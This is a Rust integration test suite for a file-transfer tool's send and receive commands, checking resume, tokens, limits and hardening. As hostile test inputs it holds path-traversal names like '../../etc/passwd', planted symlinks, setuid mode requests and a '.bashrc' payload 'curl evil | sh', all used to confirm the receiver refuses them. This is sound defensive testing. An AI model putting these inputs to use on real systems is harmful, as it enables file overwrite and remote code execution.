//! File transfer end to end: `serve recv` and `send` over loopback, hashes
//! checked independently with the blake3 crate, resume, hostile names and
//! symlinks, liars, tokens, limits and concurrency, and the attacks of
//! issue 11 (limits on unknown sizes, two senders of one name, stale parts,
//! long names, dotfiles, modes, anonymous resume).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::util::{run, socketkit, Proc, Server};

struct Receiver {
    server: Server,
    dir: tempfile::TempDir,
}

impl Receiver {
    fn start(extra: &[&str]) -> Receiver {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("inbox")).unwrap();
        let inbox = dir.path().join("inbox");
        let mut args = vec![
            "serve",
            "recv",
            "127.0.0.1:0",
            "--dir",
            inbox.to_str().unwrap(),
        ];
        args.extend_from_slice(extra);
        let server = Server::start(&args, 1);
        Receiver { server, dir }
    }

    fn inbox(&self) -> PathBuf {
        self.dir.path().join("inbox")
    }

    fn send(&self, files: &[&Path], extra: &[&str]) -> Output {
        let mut args: Vec<&str> = vec!["send", self.server.addr()];
        args.extend(files.iter().map(|f| f.to_str().unwrap()));
        args.extend_from_slice(extra);
        run(socketkit(args), b"")
    }

    fn inbox_names(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.inbox())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

/// The receiver's part file for `name` (PROTOCOL.md): hidden, fixed length.
fn part_of(name: &str) -> String {
    format!(".sk-{}.part", &b3(name.as_bytes())[..32])
}

fn b3(bytes: &[u8]) -> String {
    blake3::hash(bytes).to_hex().to_string()
}

fn stdout_of(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn stderr_of(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn files_of_every_size_arrive_byte_exact() {
    let receiver = Receiver::start(&[]);
    let source = tempfile::tempdir().unwrap();
    let sizes = [
        ("zero", 0usize),
        ("one", 1),
        ("mebibyte", 1 << 20),
        ("big", 200 << 20),
    ];
    let mut paths = Vec::new();
    let mut expected = String::new();
    for (name, size) in sizes {
        let bytes = crate::util::random_bytes(size, size as u64 + 7);
        let path = source.path().join(name);
        std::fs::write(&path, &bytes).unwrap();
        expected.push_str(&format!("{}  {name}\n", b3(&bytes)));
        paths.push(path);
    }
    let refs: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
    let out = receiver.send(&refs, &[]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(
        stdout_of(&out),
        expected,
        "the sender prints b3sum-style lines"
    );
    for (name, size) in sizes {
        let stored = std::fs::read(receiver.inbox().join(name)).unwrap();
        assert_eq!(stored.len(), size);
        assert!(
            stored == crate::util::random_bytes(size, size as u64 + 7),
            "{name} differs"
        );
    }
    assert_eq!(
        receiver.inbox_names(),
        ["big", "mebibyte", "one", "zero"],
        "no .part left"
    );
}

#[test]
fn stdin_with_a_name_and_a_json_summary() {
    let receiver = Receiver::start(&[]);
    let out = run(
        socketkit([
            "send",
            receiver.server.addr(),
            "-",
            "--name",
            "piped.txt",
            "--json",
        ]),
        b"from a pipe\n",
    );
    assert!(out.status.success(), "{}", stderr_of(&out));
    let line = stdout_of(&out);
    for field in [
        "\"name\":\"piped.txt\"",
        "\"bytes\":12",
        "\"resumed_from\":0",
        "\"mb_per_s\"",
        "\"seconds\"",
    ] {
        assert!(line.contains(field), "{field} missing in {line}");
    }
    assert!(line.contains(&b3(b"from a pipe\n")));
    assert_eq!(
        std::fs::read(receiver.inbox().join("piped.txt")).unwrap(),
        b"from a pipe\n"
    );
}

fn python_sender(receiver: &Receiver, args: &[&str], stdin: bool) -> Proc {
    python_sender_with_token(receiver, args, stdin, None)
}

fn python_sender_with_token(
    receiver: &Receiver,
    args: &[&str],
    stdin: bool,
    token: Option<&str>,
) -> Proc {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/peers/transfer_client.py");
    let mut cmd = Command::new("python3");
    cmd.arg(script)
        .arg(crate::util::host_port(receiver.server.addr()))
        .args(args);
    if let Some(token) = token {
        cmd.env("SK_TOKEN", token);
    }
    Proc::spawn("python sender", cmd, stdin)
}

/// A token file in a fresh directory (kept alive by the returned guard).
fn token_file(secret: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("token");
    std::fs::write(&path, secret).unwrap();
    (dir, path)
}

#[test]
fn an_interrupted_transfer_resumes_and_a_tampered_part_restarts() {
    // Only authenticated senders resume.
    let (_secrets, token) = token_file("resume-secret");
    let token = token.to_str().unwrap();
    let receiver = Receiver::start(&["--token-file", token]);
    let source = tempfile::tempdir().unwrap();
    let bytes = crate::util::random_bytes(3 << 20, 11);
    let path = source.path().join("movie.bin");
    std::fs::write(&path, &bytes).unwrap();
    let half = (3 << 20) / 2;
    let path_text = path.to_str().unwrap().to_owned();
    let partial = python_sender_with_token(
        &receiver,
        &["partial", &path_text, "movie.bin", &half.to_string()],
        true,
        Some("resume-secret"),
    );
    partial
        .stdout
        .wait_for("the partial send", |l| l.starts_with("SENT"));
    drop(partial); // killed: the receiver keeps the part file
    let part = receiver.inbox().join(part_of("movie.bin"));
    crate::util::wait_until("the partial file to hold the bytes sent", || {
        std::fs::metadata(&part)
            .map(|m| m.len() as usize == half)
            .unwrap_or(false)
    });
    let out = receiver.send(&[&path], &["--json", "--token-file", token]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(
        stdout_of(&out).contains(&format!("\"resumed_from\":{half}")),
        "{}",
        stdout_of(&out)
    );
    assert!(stdout_of(&out).contains(&b3(&bytes)));
    assert!(std::fs::read(receiver.inbox().join("movie.bin")).unwrap() == bytes);

    // A partial copy that does not match our prefix is thrown away.
    std::fs::remove_file(receiver.inbox().join("movie.bin")).unwrap();
    std::fs::write(&part, vec![0u8; half]).unwrap();
    let out = receiver.send(&[&path], &["--json", "--token-file", token]);
    assert!(
        stdout_of(&out).contains("\"resumed_from\":0"),
        "{}",
        stdout_of(&out)
    );
    assert!(std::fs::read(receiver.inbox().join("movie.bin")).unwrap() == bytes);
}

#[test]
fn a_receiver_killed_midway_leaves_no_final_file() {
    let mut receiver = Receiver::start(&[]);
    let source = tempfile::tempdir().unwrap();
    let path = source.path().join("doc.bin");
    std::fs::write(&path, crate::util::random_bytes(1 << 20, 3)).unwrap();
    let path_text = path.to_str().unwrap().to_owned();
    let partial = python_sender(
        &receiver,
        &["partial", &path_text, "doc.bin", "100000"],
        true,
    );
    partial
        .stdout
        .wait_for("the partial send", |l| l.starts_with("SENT"));
    crate::util::signal(receiver.server.pid(), "KILL");
    receiver.server.proc.wait_exit();
    assert!(!receiver.inbox().join("doc.bin").exists());
}

#[test]
fn hostile_names_are_refused_before_anything_is_created() {
    let receiver = Receiver::start(&[]);
    for name in [
        "../../etc/passwd",
        "..",
        ".",
        "a/b",
        "/etc/passwd",
        "C:\\x",
        "esc\u{1b}[2J",
        "x.part",
    ] {
        let out = run(
            socketkit(["send", receiver.server.addr(), "-", "--name", name]),
            b"evil",
        );
        let line = crate::util::assert_one_error_line(&out, 1);
        assert!(line.contains("unsafe file name"), "{name:?}: {line}");
    }
    assert!(receiver.inbox_names().is_empty());
    assert!(!receiver.dir.path().join("passwd").exists());
}

#[test]
fn symlinks_planted_in_the_directory_are_never_followed() {
    let receiver = Receiver::start(&["--overwrite"]);
    let outside = receiver.dir.path().join("outside.txt");
    std::fs::write(&outside, "precious").unwrap();
    // Both parts a name may use: the resumable one, and the one of a
    // sender that may not resume (this one: the receiver is anonymous).
    for part in [part_of("evil"), part_of("\0no-resume\0evil")] {
        std::os::unix::fs::symlink(&outside, receiver.inbox().join(part)).unwrap();
    }
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "evil"]),
        b"overwritten?",
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
    std::os::unix::fs::symlink(&outside, receiver.inbox().join("victim")).unwrap();
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "victim"]),
        b"replaced",
    );
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "precious");
    let victim = receiver.inbox().join("victim");
    assert!(
        std::fs::symlink_metadata(&victim).unwrap().is_file(),
        "the link itself was replaced"
    );
    assert_eq!(std::fs::read_to_string(victim).unwrap(), "replaced");
}

#[test]
fn existing_files_are_kept_unless_overwrite() {
    let receiver = Receiver::start(&[]);
    std::fs::write(receiver.inbox().join("notes.txt"), "old").unwrap();
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "notes.txt"]),
        b"new",
    );
    assert!(crate::util::assert_one_error_line(&out, 1).contains("exists"));
    assert_eq!(
        std::fs::read_to_string(receiver.inbox().join("notes.txt")).unwrap(),
        "old"
    );
    let permissive = Receiver::start(&["--overwrite"]);
    std::fs::write(permissive.inbox().join("notes.txt"), "old").unwrap();
    let out = run(
        socketkit(["send", permissive.server.addr(), "-", "--name", "notes.txt"]),
        b"new",
    );
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(
        std::fs::read_to_string(permissive.inbox().join("notes.txt")).unwrap(),
        "new"
    );
}

#[test]
fn a_wrong_token_writes_nothing() {
    let secrets = tempfile::tempdir().unwrap();
    let (good, bad) = (secrets.path().join("good"), secrets.path().join("bad"));
    std::fs::write(&good, "right").unwrap();
    std::fs::write(&bad, "wrong").unwrap();
    let receiver = Receiver::start(&["--token-file", good.to_str().unwrap()]);
    let send_with = |token: &Path| {
        let token = token.to_str().unwrap();
        let addr = receiver.server.addr();
        let args = ["send", addr, "-", "--name", "x", "--token-file", token];
        run(socketkit(args), b"data")
    };
    let out = send_with(&bad);
    assert!(crate::util::assert_one_error_line(&out, 1).contains("authentication failed"));
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "x"]),
        b"data",
    );
    assert!(crate::util::assert_one_error_line(&out, 1).contains("token"));
    assert!(receiver.inbox_names().is_empty());
    // The address's next attempt is judged only once the failure's penalty
    // has passed; then the right token gets in.
    crate::util::wait_until("the right token accepted after the penalty", || {
        let out = send_with(&good);
        let refused = stderr_of(&out);
        assert!(
            out.status.success() || refused.contains("try again"),
            "{refused}"
        );
        out.status.success()
    });
}

#[test]
fn senders_lying_about_the_size_are_caught() {
    let receiver = Receiver::start(&[]);
    let more = python_sender(&receiver, &["lie", "more.bin", "10", "200000"], false);
    more.stdout.wait_for("a mismatch error", |l| {
        l.starts_with("ERROR") && l.contains("mismatch")
    });
    let fewer = python_sender(&receiver, &["lie", "fewer.bin", "200000", "10"], false);
    fewer.stdout.wait_for("a mismatch error", |l| {
        l.starts_with("ERROR") && l.contains("mismatch")
    });
    drop((more, fewer));
    crate::util::wait_until("no partial files left", || {
        receiver.inbox_names().is_empty()
    });
}

#[test]
fn offers_over_the_limit_or_the_free_space_are_refused_up_front() {
    let receiver = Receiver::start(&["--max-size", "1000"]);
    let big = python_sender(&receiver, &["offer", "big.bin", "1001"], false);
    big.stdout.wait_for("too large", |l| {
        l.starts_with("ERROR") && l.contains("too_large")
    });
    let unlimited = Receiver::start(&[]);
    let huge = python_sender(
        &unlimited,
        &["offer", "huge.bin", &(1u64 << 60).to_string()],
        false,
    );
    huge.stdout.wait_for("no space", |l| {
        l.starts_with("ERROR") && l.contains("no_space")
    });
}

#[test]
fn twenty_senders_at_once() {
    let receiver = Receiver::start(&[]);
    let source = tempfile::tempdir().unwrap();
    let mut senders: Vec<(Proc, Vec<u8>, String)> = (0..20)
        .map(|n| {
            let bytes = crate::util::random_bytes(1 << 20, n + 100);
            let name = format!("file-{n}.bin");
            let path = source.path().join(&name);
            std::fs::write(&path, &bytes).unwrap();
            let cmd = socketkit(["send", receiver.server.addr(), path.to_str().unwrap()]);
            (Proc::spawn(&name, cmd, false), bytes, name)
        })
        .collect();
    for (sender, bytes, name) in &mut senders {
        sender
            .stdout
            .wait_for(name, |l| l == format!("{}  {name}", b3(bytes)));
        assert!(sender.wait_exit().success());
        assert!(std::fs::read(receiver.inbox().join(&name)).unwrap() == *bytes);
    }
}

/// A small tmpfs of our own, unmounted when dropped (even if the test
/// fails).
struct TinyFilesystem(PathBuf);

impl TinyFilesystem {
    /// Mounts it at `at` when this test may (root); `None` and a note
    /// otherwise.
    fn mount(at: &Path, size: &str) -> Option<TinyFilesystem> {
        let mounted = Command::new("mount")
            .args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={size}"),
                "socketkit-test",
                at.to_str().unwrap(),
            ])
            .output()
            .is_ok_and(|out| out.status.success());
        if !mounted {
            eprintln!("skipped: cannot mount a small tmpfs here (needs root)");
        }
        mounted.then(|| TinyFilesystem(at.to_path_buf()))
    }
}

impl Drop for TinyFilesystem {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

/// A receiver storing into a tmpfs of `size`; fields drop in order, the
/// server before the unmount.
struct TinyReceiver {
    server: Server,
    inbox: PathBuf,
    _mounted: TinyFilesystem,
    _root: tempfile::TempDir,
}

impl TinyReceiver {
    /// `None` where no tmpfs can be mounted.
    fn start(size: &str) -> Option<TinyReceiver> {
        let root = tempfile::tempdir().unwrap();
        let inbox = root.path().join("inbox");
        std::fs::create_dir(&inbox).unwrap();
        let mounted = TinyFilesystem::mount(&inbox, size)?;
        let server = Server::start(
            &[
                "serve",
                "recv",
                "127.0.0.1:0",
                "--dir",
                inbox.to_str().unwrap(),
            ],
            1,
        );
        Some(TinyReceiver {
            server,
            inbox,
            _mounted: mounted,
            _root: root,
        })
    }

    /// Sends `bytes` from a pipe (size unknown) as `name`, expecting a
    /// refusal: the one error line.
    fn refused_pipe(&self, name: &str, bytes: &[u8]) -> String {
        let out = run(
            socketkit(["send", self.server.addr(), "-", "--name", name]),
            bytes,
        );
        crate::util::assert_one_error_line(&out, 1)
    }
}

#[test]
fn a_full_disk_is_reported_to_both_sides_and_nothing_is_renamed() {
    let Some(tiny) = TinyReceiver::start("1m") else {
        return;
    };
    // From a pipe the size is unknown, so only the write itself can fail.
    let line = tiny.refused_pipe("too-big.bin", &crate::util::random_bytes(4 << 20, 5));
    assert!(line.contains("not enough space"), "{line}");
    assert!(!tiny.inbox.join("too-big.bin").exists());
}

// ---------------------------------------------------------------------------
// Issue 11: each attack performed.

#[test]
fn a_pipe_of_unknown_size_is_held_to_max_size_as_it_arrives() {
    let receiver = Receiver::start(&["--max-size", "1000"]);
    // What `head -c 100000 /dev/zero | socketkit send ADDR - --name big.bin`
    // does: the offer says "size": null.
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "big.bin"]),
        &vec![0u8; 100_000],
    );
    let line = crate::util::assert_one_error_line(&out, 1);
    assert!(line.contains("too large"), "{line}");
    // Far past the limit: the sender hears of it mid-file and stops.
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "huge.bin"]),
        &crate::util::random_bytes(40 << 20, 9),
    );
    let line = crate::util::assert_one_error_line(&out, 1);
    assert!(line.contains("too large"), "{line}");
    // A sender that only reads after END (a peer from PROTOCOL.md) still
    // gets a clean refusal: the receiver discards up to END.
    let source = tempfile::tempdir().unwrap();
    let path = source.path().join("data");
    std::fs::write(&path, vec![7u8; 200_000]).unwrap();
    let mut offered = python_sender(
        &receiver,
        &[
            "send",
            path.to_str().unwrap(),
            "x.bin",
            &"0".repeat(64),
            "644",
        ],
        false,
    );
    offered.stdout.wait_for("a too_large refusal", |l| {
        l.starts_with("ERROR") && l.contains("too_large")
    });
    offered.wait_exit();
    crate::util::wait_until("nothing stored and no part left", || {
        receiver.inbox_names().is_empty()
    });
}

#[test]
fn a_second_sender_of_the_same_name_is_busy_and_the_stored_file_is_the_confirmed_one() {
    let receiver = Receiver::start(&[]);
    let source = tempfile::tempdir().unwrap();
    let first = crate::util::random_bytes(2 << 20, 21);
    let second = crate::util::random_bytes(2 << 20, 22);
    std::fs::create_dir(source.path().join("other")).unwrap();
    let first_path = source.path().join("a");
    let second_path = source.path().join("other/shared.bin");
    std::fs::write(&first_path, &first).unwrap();
    std::fs::write(&second_path, &second).unwrap();
    let half = 1 << 20;
    let mut holder = python_sender(
        &receiver,
        &[
            "hold",
            first_path.to_str().unwrap(),
            "shared.bin",
            &half.to_string(),
            &b3(&first),
        ],
        true,
    );
    holder
        .stdout
        .wait_for("the first half sent", |l| l.starts_with("HELD"));
    crate::util::wait_until("the receiver to hold the first half", || {
        std::fs::read_dir(receiver.inbox())
            .unwrap()
            .any(|e| e.unwrap().metadata().unwrap().len() == half as u64)
    });
    let out = receiver.send(&[&second_path], &[]);
    let line = crate::util::assert_one_error_line(&out, 1);
    assert!(line.contains("busy"), "{line}");
    holder.write_stdin(b"go\n");
    holder.stdout.wait_for("the first sender's DONE", |l| {
        l.starts_with("DONE") && l.contains(&b3(&first))
    });
    let stored = std::fs::read(receiver.inbox().join("shared.bin")).unwrap();
    assert!(
        stored == first,
        "the stored file is not what DONE confirmed"
    );
    assert_eq!(receiver.inbox_names(), ["shared.bin"]);
}

/// Sets a file's modification time `age` into the past.
fn age(path: &Path, age: std::time::Duration) {
    let file = std::fs::File::options().write(true).open(path).unwrap();
    file.set_modified(std::time::SystemTime::now() - age)
        .unwrap();
}

#[test]
fn stale_parts_expire_at_start_and_later() {
    let dir = tempfile::tempdir().unwrap();
    let inbox = dir.path().join("inbox");
    std::fs::create_dir(&inbox).unwrap();
    let stale = inbox.join(part_of("old.iso"));
    let fresh = inbox.join(part_of("new.iso"));
    let users = inbox.join("kept.txt");
    for path in [&stale, &fresh, &users] {
        std::fs::write(path, b"bytes").unwrap();
    }
    let day = std::time::Duration::from_secs(25 * 60 * 60);
    age(&stale, day);
    age(&users, day);
    let server = Server::start(
        &[
            "serve",
            "recv",
            "127.0.0.1:0",
            "--dir",
            inbox.to_str().unwrap(),
        ],
        1,
    );
    assert!(
        !stale.exists(),
        "a part older than a day survived the start"
    );
    assert!(fresh.exists(), "a fresh part was removed");
    assert!(users.exists(), "a file that is not a part was removed");
    drop(server);

    // With a short TTL, parts that go stale while it runs go too (the sweep
    // runs as offers arrive).
    let server = Server::start(
        &[
            "serve",
            "recv",
            "127.0.0.1:0",
            "--dir",
            inbox.to_str().unwrap(),
            "--part-ttl",
            "1s",
        ],
        1,
    );
    // Created after the start-up sweep, so only a later sweep removes it.
    let late = inbox.join(part_of("late.iso"));
    std::fs::write(&late, b"bytes").unwrap();
    age(&late, std::time::Duration::from_secs(60));
    let mut n = 0;
    crate::util::wait_until("the stale part to be swept", || {
        n += 1;
        let name = format!("poke-{n}");
        let out = run(
            socketkit(["send", server.addr(), "-", "--name", &name]),
            b"x",
        );
        assert!(out.status.success(), "{}", stderr_of(&out));
        !late.exists()
    });
    assert!(users.exists());
}

#[test]
fn a_255_byte_name_is_stored() {
    let receiver = Receiver::start(&[]);
    let name = "n".repeat(255);
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", &name]),
        b"long",
    );
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(
        std::fs::read(receiver.inbox().join(&name)).unwrap(),
        b"long"
    );
    assert_eq!(receiver.inbox_names(), [name]);
}

#[test]
fn dotfiles_are_refused_unless_allowed() {
    let receiver = Receiver::start(&[]);
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", ".bashrc"]),
        b"curl evil | sh\n",
    );
    let line = crate::util::assert_one_error_line(&out, 1);
    assert!(line.contains("--allow-dotfiles"), "{line}");
    assert!(receiver.inbox_names().is_empty());
    let permissive = Receiver::start(&["--allow-dotfiles"]);
    let out = run(
        socketkit(["send", permissive.server.addr(), "-", "--name", ".profile"]),
        b"ok\n",
    );
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(permissive.inbox_names(), [".profile"]);
}

#[test]
fn a_sender_cannot_set_modes_beyond_the_receivers_umask() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let dir = tempfile::tempdir().unwrap();
    let inbox = dir.path().join("inbox");
    std::fs::create_dir(&inbox).unwrap();
    let mut cmd = socketkit([
        "serve",
        "recv",
        "127.0.0.1:0",
        "--dir",
        inbox.to_str().unwrap(),
    ]);
    // SAFETY: umask is async-signal-safe and touches nothing else.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0o027);
            Ok(())
        });
    }
    let receiver = Receiver {
        server: Server::start_command(cmd, 1),
        dir,
    };
    let source = tempfile::tempdir().unwrap();
    let path = source.path().join("tool");
    std::fs::write(&path, b"#!/bin/sh\n").unwrap();
    let mut sender = python_sender(
        &receiver,
        &[
            "send",
            path.to_str().unwrap(),
            "tool",
            &b3(b"#!/bin/sh\n"),
            "6777",
        ],
        false,
    );
    sender.stdout.wait_for("DONE", |l| l.starts_with("DONE"));
    sender.wait_exit();
    let mode = std::fs::metadata(receiver.inbox().join("tool"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o7777, 0o750, "mode {:o}", mode & 0o7777);
}

#[test]
fn an_anonymous_sender_cannot_make_the_receiver_resume() {
    let receiver = Receiver::start(&[]);
    let source = tempfile::tempdir().unwrap();
    let bytes = crate::util::random_bytes(3 << 20, 31);
    let path = source.path().join("movie.bin");
    std::fs::write(&path, &bytes).unwrap();
    let half = (3 << 20) / 2;
    let partial = python_sender(
        &receiver,
        &[
            "partial",
            path.to_str().unwrap(),
            "movie.bin",
            &half.to_string(),
        ],
        true,
    );
    partial
        .stdout
        .wait_for("the partial send", |l| l.starts_with("SENT"));
    drop(partial);
    let size = bytes.len().to_string();
    let offer = python_sender(&receiver, &["offer", "movie.bin", &size], false);
    let answer = offer
        .stdout
        .wait_for("an answer", |l| l.starts_with("ACCEPT"));
    assert!(answer.contains("\"offset\":0"), "{answer}");
    // Not even a part planted in the directory is hashed for it.
    std::fs::write(receiver.inbox().join(part_of("movie.bin")), &bytes[..half]).unwrap();
    let offer = python_sender(&receiver, &["offer", "movie.bin", &size], false);
    let answer = offer
        .stdout
        .wait_for("an answer", |l| l.starts_with("ACCEPT"));
    assert!(answer.contains("\"offset\":0"), "{answer}");
}

#[test]
fn free_space_is_rechecked_as_data_of_unknown_size_arrives() {
    let Some(tiny) = TinyReceiver::start("32m") else {
        return;
    };
    let line = tiny.refused_pipe("stream.bin", &crate::util::random_bytes(64 << 20, 41));
    // Stopped while room was left, not when the disk was full; and the
    // part is gone, giving the space back.
    assert!(line.contains("nearly full"), "{line}");
    let left: Vec<_> = std::fs::read_dir(&tiny.inbox).unwrap().collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn before_authenticating_a_sender_may_not_start_a_big_frame() {
    use std::io::{Read, Write};
    // A long handshake deadline: an old receiver reserved the megabyte and
    // waited that long for it.
    let receiver = Receiver::start(&["--handshake-timeout", "60s"]);
    let mut peer =
        std::net::TcpStream::connect(crate::util::host_port(receiver.server.addr())).unwrap();
    peer.set_read_timeout(Some(crate::util::WAIT)).unwrap();
    let mut header = (1024u32 * 1024 + 1).to_be_bytes().to_vec();
    header.push(0x24); // FILE_DATA, before any HELLO
    peer.write_all(&header).unwrap();
    let mut received = Vec::new();
    peer.read_to_end(&mut received)
        .expect("the receiver closes at once");
    let text = String::from_utf8_lossy(&received);
    assert!(
        text.contains("\"kind\":\"protocol\"") && text.contains("the limit is 4096"),
        "{text}"
    );
}

#[test]
fn an_anonymous_sender_leaves_a_resumable_part_alone() {
    // What an authenticated sender's interrupted transfer leaves behind; an
    // anonymous sender of the same name must neither truncate nor take it.
    let receiver = Receiver::start(&["--overwrite"]);
    let kept = crate::util::random_bytes(64 * 1024, 37);
    let part = receiver.inbox().join(part_of("movie.bin"));
    std::fs::write(&part, &kept).unwrap();
    let out = run(
        socketkit(["send", receiver.server.addr(), "-", "--name", "movie.bin"]),
        b"anonymous bytes",
    );
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(
        std::fs::read(receiver.inbox().join("movie.bin")).unwrap(),
        b"anonymous bytes"
    );
    assert_eq!(
        std::fs::read(&part).unwrap(),
        kept,
        "the resumable part is untouched"
    );
}
